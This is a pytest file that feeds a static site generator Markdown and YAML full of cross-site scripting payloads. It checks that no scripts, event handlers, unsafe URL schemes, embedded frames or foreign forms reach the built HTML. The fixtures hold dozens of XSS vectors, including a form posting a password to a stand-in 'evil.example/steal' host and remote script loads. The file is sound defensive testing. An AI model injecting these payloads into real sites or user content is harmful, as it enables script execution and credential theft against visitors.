"""Hostile pull requests: Markdown and YAML written to attack readers produce no executable
content. A tiny site full of attacks is built, then EVERY written HTML page is parsed and
checked for scripts, event handlers, dangerous URLs, embedded documents and forms.

The theme's own scripts are allowed only as <script src> pointing at assets/ of the same
site; its own forms only as the search form (GET to search/).
"""

from __future__ import annotations

import re

import pytest

from conftest import MINIMAL_PAGE_EASY, MINIMAL_PROVIDER, TODAY, make_site, run_cli
from htmlparse import Document, html_files, page_url, parse_file, resolve, url_scheme, urls_of, visible_text

BASE = "https://example.org/catalogue/"  # base_url of conftest's minimal site
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}

HOSTILE_NAME = "<script>alert(1)</script>"
HOSTILE_SUMMARY = '"><img src=x onerror=alert(1)> A summary that breaks out of attributes.'
HOSTILE_ALERT = "<b onmouseover=alert(1)>Read me</b> </p><script>alert(2)</script>"
HOSTILE_SENTENCE = "<a href=javascript:alert(3)>We go out.</a>"
HOSTILE_PROVIDER = "Evil <iframe src=javascript:alert(4)></iframe> Ltd"
HOSTILE_TITLE = "About <svg onload=alert(5)>"
HOSTILE_AREA = "North <img src=x onerror=alert(6)>"
HOSTILE_NOTE = "</td></tr></table><script>alert(7)</script>"

HOSTILE_MARKDOWN = """\
Safe opening paragraph.

<script>alert('md-1')</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror="alert('md-2')">
<p onclick="alert('md-3')">Click me</p>
<div style="background:url(javascript:alert('md-4'))">Styled</div>
<span style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay</span>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert('md-5')</script>"></iframe>
<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="javascript:alert('md-6')">Go</button></form>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<svg><script>alert('md-7')</script></svg>
<svg onload="alert('md-8')"><a xlink:href="javascript:alert('md-9')"><text>svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('md-10')></style></mglyph></table></mtext></math>
<a href="javascript:alert('md-11')">raw javascript link</a>
<a href="jav&#x61;script:alert('md-12')">entity link</a>
<a href="jav&#x09;ascript:alert('md-13')">tab link</a>
<a href=" JaVaScRiPt:alert('md-14')">mixed case link</a>
<a href="vbscript:msgbox('md-15')">vbscript link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="#" onclick="alert('md-16')">onclick link</a>
<meta http-equiv="refresh" content="0;url=javascript:alert('md-17')">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/track.png) }</style>
<details open ontoggle="alert('md-18')"><summary>details</summary></details>
<video><source onerror="alert('md-19')"></video>
<input autofocus onfocus="alert('md-20')">

[markdown javascript link](javascript:alert('md-21'))
[markdown entity link](jav&#x61;script:alert('md-22'))
[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[markdown vbscript link](vbscript:msgbox('md-23'))
[markdown spaced link]( javascript:alert('md-24') )
[markdown title attack](https://example.org/ "\\" onmouseover=\\"alert('md-25')")
![markdown image](javascript:alert('md-26'))
![tracking image](https://evil.example/pixel.png)
<javascript:alert('md-27')>
<https://example.org/autolink-ok>
<mailto:someone@example.org>

[reference link][ref]

[ref]: javascript:alert('md-28')

Safe closing paragraph with a [good link](https://example.org/good).
"""

HOSTILE_SERVICE = f"""\
---
name: {HOSTILE_NAME!r}
summary: '{HOSTILE_SUMMARY}'
types: [community-group]
who_for: [older-people]
activities: [gardening]
areas: [north]
locations:
  - name: "<b>Hall</b> <img src=x onerror=alert(8)>"
    address: "1 Park Road<script>alert(9)</script>, Testtown"
    postcode: RV1 2AB
times:
  - days: [tue]
    from: "10:00"
    to: "12:00"
    note: {HOSTILE_NOTE!r}
costs:
  - label: "<i onclick=alert(10)>Day</i>"
    amount: 5
    per: day
funding: [self-funded]
contact: {{phone: "01632 960123", email: club@example.org, website: https://example.org/club}}
last_reviewed: 2026-06-01
status: temporarily-closed
alert: {HOSTILE_ALERT!r}
easy_read:
  - {HOSTILE_SENTENCE!r}
---
{HOSTILE_MARKDOWN}"""

HOSTILE_FILES = {
    "site.yaml": None,  # written below from the minimal one, with a hostile area name
    "content/providers/testshire-care/provider.yaml": MINIMAL_PROVIDER.replace("name: Testshire Care",
                                                                              f"name: {HOSTILE_PROVIDER!r}"),
    "content/providers/testshire-care/hostile.md": HOSTILE_SERVICE,
    "content/providers/testshire-care/hostile.easy.md": "---\nchecked_by: '<img src=x onerror=alert(12)>'\n"
                                                        "checked_on: 2026-06-01\n---\n" + HOSTILE_MARKDOWN,
    "content/pages/about.md": f"---\ntitle: {HOSTILE_TITLE!r}\nsummary: '{HOSTILE_SUMMARY}'\n---\n{HOSTILE_MARKDOWN}",
    "content/pages/about.easy.md": MINIMAL_PAGE_EASY + "\n" + HOSTILE_MARKDOWN,
}


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    from conftest import MINIMAL_SITE
    root = tmp_path_factory.mktemp("hostile") / "site"
    files = dict(HOSTILE_FILES, **{"site.yaml": MINIMAL_SITE.replace("name: North", f"name: {HOSTILE_AREA!r}")})
    make_site(root, files)
    out = root.parent / "out"
    result = run_cli("build", "--root", str(root), "--out", str(out), "--today", TODAY)
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def pages(hostile_out) -> list[tuple[str, Document]]:
    files = [f for f in html_files(hostile_out) if "pagefind" not in f.parts]
    assert len(files) > 20
    return [(page_url(hostile_out, f), parse_file(f)) for f in files]


def test_only_the_themes_own_scripts_from_assets_and_no_inline_script(pages):
    bad = []
    for url, doc in pages:
        for script in doc.find_all("script"):
            src = script.get("src")
            target = resolve(BASE, url, src) if src and not url_scheme(src) and not src.startswith("//") else None
            if not target or not target[0].startswith("assets/") or script.text:
                bad.append((url, script.line, script.attrs, script.text[:60]))
    assert bad == []


def test_no_event_handler_attributes(pages):
    bad = [(url, el.line, el.tag, name) for url, doc in pages for el in doc.iter() for name in el.attrs
           if name.lower().startswith("on")]
    assert bad == []


def test_every_url_uses_http_https_mailto_or_tel(pages):
    bad = [(url, el.line, el.tag, attr, value) for url, doc in pages for el in doc.iter()
           for attr, value in urls_of(el) if url_scheme(value) not in SAFE_SCHEMES]
    assert bad == []


def test_no_embedded_documents_refresh_or_base(pages):
    banned = ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "foreignobject",
              "animate", "set", "handler", "listener")
    bad = [(url, el.line, el.tag) for url, doc in pages for el in doc.iter() if el.tag in banned]
    bad += [(url, el.line, "meta refresh") for url, doc in pages for el in doc.find_all("meta")
            if (el.get("http-equiv") or "").lower() == "refresh"]
    assert bad == []


def test_forms_are_only_the_themes_search_form(pages):
    bad = []
    for url, doc in pages:
        for form in doc.find_all("form"):
            action = form.get("action") or ""
            target = resolve(BASE, url, action) if not url_scheme(action) else None
            if (form.get("role") != "search" or (form.get("method") or "get").lower() != "get"
                    or not target or target[0].removeprefix("easy-read/") != "search/"):
                bad.append((url, form.line, form.attrs))
        bad += [(url, el.line, el.tag, el.attrs) for el in doc.iter()
                if el.tag in ("input", "textarea", "select") and not el.inside("form")]
        bad += [(url, el.line, el.tag, el.attrs) for el in doc.iter() if "formaction" in el.attrs]
    assert bad == []


def test_no_style_attributes_or_style_elements(pages):
    # the content security policy allows no inline CSS: the brand colour is in assets/brand.css
    bad = [(url, el.line, el.tag) for url, doc in pages for el in doc.iter() if "style" in el.attrs]
    for url, doc in pages:
        bad += [(url, style.line, "style", style.text[:60]) for style in doc.find_all("style")]
        bad += [(url, el.line, "stylesheet", el.get("href")) for el in doc.find_all("link")
                if "stylesheet" in (el.get("rel") or "") and (url_scheme(el.get("href")) or el.get("href").startswith("//"))]
    assert bad == []


def test_no_images_or_svg_from_content(hostile_out, pages):
    # The theme draws its own pictograms from assets/; content can add no images at all.
    bad = []
    for url, doc in pages:
        for img in doc.find_all("img"):
            target = resolve(BASE, url, img.get("src") or "") if not url_scheme(img.get("src") or "") else None
            if not target or not target[0].startswith("assets/"):
                bad.append((url, img.line, img.attrs))
        bad += [(url, el.line, el.tag) for el in doc.iter() if el.tag in ("svg", "math")]
    assert bad == []


def test_hostile_yaml_text_is_shown_escaped_as_text(pages):
    by_url = dict(pages)
    service = by_url["services/testshire-care/hostile/"]
    assert [h.text for h in service.h1s()] == [HOSTILE_NAME]
    assert HOSTILE_NAME in service.title
    shown = visible_text(service.find("main"))
    for text in (HOSTILE_SUMMARY, "<i onclick=alert(10)>Day</i>", "<b>Hall</b> <img src=x onerror=alert(8)>",
                 "1 Park Road<script>alert(9)</script>, Testtown", HOSTILE_PROVIDER, HOSTILE_NOTE):
        assert text in shown, text
    assert re.sub(r"\s+", " ", HOSTILE_ALERT) in shown
    assert HOSTILE_AREA in shown
    description = service.find("meta", name="description")
    assert description.get("content") == HOSTILE_SUMMARY
    easy = by_url["easy-read/services/testshire-care/hostile/"]
    assert HOSTILE_SENTENCE in visible_text(easy.find("main"))
    assert "<img src=x onerror=alert(12)>" in easy.text  # checked_by of the .easy.md
    about = by_url["about/"]
    assert [h.text for h in about.h1s()] == [HOSTILE_TITLE]
    assert HOSTILE_SUMMARY in visible_text(about.find("main"))
    assert HOSTILE_PROVIDER in [h.text for h in by_url["providers/testshire-care/"].h1s()]


def test_hostile_markdown_keeps_its_text_and_safe_links_only(pages):
    by_url = dict(pages)
    for url in ("services/testshire-care/hostile/", "about/", "easy-read/about/", "easy-read/services/testshire-care/hostile/"):
        main = by_url[url].find("main")
        shown = visible_text(main)
        assert "Safe opening paragraph." in shown and "Safe closing paragraph" in shown, url
        hrefs = [a.get("href") for a in main.find_all("a")]
        assert "https://example.org/good" in hrefs, url
        assert not any("evil.example" in (value or "") for el in main.iter() for _, value in urls_of(el)), url
        assert "alert('md-" not in " ".join(v or "" for el in main.iter() for v in el.attrs.values()), url


BAD_SERVICE = """\
---
name: Bad
summary: Bad link.
types: [community-group]
who_for: [older-people]
areas: [north]
funding: [free]
contact: {website: "javascript:alert(1)"}
last_reviewed: 2026-06-01
---
"""
PROVIDER_FILE = "content/providers/testshire-care/provider.yaml"


def provider_with(extra_contact: str) -> str:
    return MINIMAL_PROVIDER.replace("email: info@example.org}", f"email: info@example.org, {extra_contact}}}")


# case: (the field the error must name, files; "site.yaml+" replaces those top-level keys of site.yaml)
HOSTILE_URL_FIELDS = {
    "service website javascript:": ("contact.website", {"content/providers/testshire-care/garden-club.md": None,
                                                        "content/providers/testshire-care/bad.md": BAD_SERVICE}),
    "provider website data:": ("contact.website", {PROVIDER_FILE: provider_with('website: "data:text/html,<script>alert(1)</script>"')}),
    "website breaking out of its attribute": ("contact.website", {PROVIDER_FILE: provider_with(
        """website: 'https://example.org/" onmouseover="alert(1)'""")}),
    "email with a javascript: address": ("contact.email", {PROVIDER_FILE: MINIMAL_PROVIDER.replace(
        "email: info@example.org", 'email: "javascript:alert(1)//@example.org"')}),
    "edit_url javascript:": ("edit_url", {"site.yaml+": 'edit_url: "javascript:alert(\'{path}\')"\n'}),
    "safeguarding url vbscript:": ("safeguarding.url", {"site.yaml+": 'safeguarding:\n  phone: "01632 960001"\n  url: "vbscript:msgbox(1)"\n'}),
    "council website JaVaScRiPt:": ("contact.website", {"site.yaml+": 'contact:\n  phone: "01632 960000"\n  website: "JaVaScRiPt:alert(1)"\n'}),
    "base_url javascript:": ("base_url", {"site.yaml+": 'base_url: "javascript://example.org/%0aalert(1)//"\n'}),
    "brand colour breaking out of <style>": ("theme.brand_colour", {"site.yaml+": 'theme:\n  brand_colour: "#1d5b79;}</style><script>alert(1)</script>"\n'}),
}


@pytest.mark.parametrize("case", HOSTILE_URL_FIELDS, ids=list(HOSTILE_URL_FIELDS))
def test_hostile_url_and_colour_fields_are_refused_and_nothing_is_published(tmp_path, case):
    from conftest import MINIMAL_SITE
    field, files = HOSTILE_URL_FIELDS[case]
    files = dict(files)
    extra = files.pop("site.yaml+", None)
    if extra:  # replace the keys the extra block sets, keep the rest of the minimal site.yaml
        keys = {line.split(":")[0] for line in extra.splitlines() if line and not line.startswith(" ")}
        kept, skipping = [], False
        for line in MINIMAL_SITE.splitlines(keepends=True):
            if line[:1] not in (" ", "\t") and line.strip():
                skipping = line.split(":")[0] in keys
            if not skipping:
                kept.append(line)
        files["site.yaml"] = "".join(kept) + extra
    root = make_site(tmp_path / "site", files)
    out = tmp_path / "out"
    result = run_cli("build", "--root", str(root), "--out", str(out), "--today", TODAY, "--no-search")
    assert result.exit_code == 1, result.output
    assert f": {field}: " in result.output
    assert "Nothing was published" in result.output
    assert not out.exists()
